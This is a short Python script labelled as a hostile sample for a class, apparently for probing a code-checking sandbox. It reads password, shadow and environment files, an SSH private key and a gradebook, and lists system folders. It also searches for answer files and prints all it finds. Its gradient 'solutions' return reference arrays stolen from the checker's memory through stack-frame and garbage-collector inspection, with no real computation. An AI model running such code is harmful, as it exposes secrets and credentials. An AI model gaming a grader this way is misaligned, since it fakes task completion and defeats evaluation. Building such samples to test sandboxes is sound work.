# A hostile sample made for this class: it looks for answers in files, in the environment and in the checker's own memory.
import gc
import glob
import os
import sys

import numpy as np

PLACES = ("/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/1/cmdline", "gradebook.db", "../assignment.toml", os.path.expanduser("~/.ssh/id_rsa"))


def look():
    seen = dict(os.environ)
    for place in PLACES:
        try:
            with open(place, errors="replace") as file:
                seen[place] = file.read(10_000)
        except OSError as error:
            seen[place] = error.strerror
    for folder in ("/", "/home", "/root", "/mnt", "/srv", ".."):
        try:
            seen[folder] = os.listdir(folder)
        except OSError as error:
            seen[folder] = error.strerror
    for pattern in ("exercises/*.py", "../exercises/*.py", "/*/*/exercises/*.py", "/*/exercises/*.py", "/usr/lib/python3*/site-packages/checker/_content/exercises/*.py"):
        seen[pattern] = [open(path).read() for path in glob.glob(pattern)]
    return seen


for place, content in look().items():
    print(f"{place}: {content}")


def stolen(shape, *own):
    """An array of the right shape that the checker may hold: surely the reference."""
    frame, frames = sys._getframe(), []
    while frame:
        frames.append(frame.f_locals)
        frame = frame.f_back
    for thing in (*gc.get_objects(), *(value for names in frames for value in names.values())):
        if isinstance(thing, np.ndarray) and thing.shape == shape and not any(np.array_equal(thing, one) for one in own):
            return thing.copy()
    return np.zeros(shape)


def twice_dot(x):
    return stolen(x.shape, x)


def matrix_product(a, b, upstream):
    return stolen(a.shape, a), stolen(b.shape, b)


def cross_entropy(logits, labels):
    return stolen(logits.shape, logits)


def distance(p, q):
    unit = (p - q) / np.linalg.norm(p - q)
    return unit, -unit
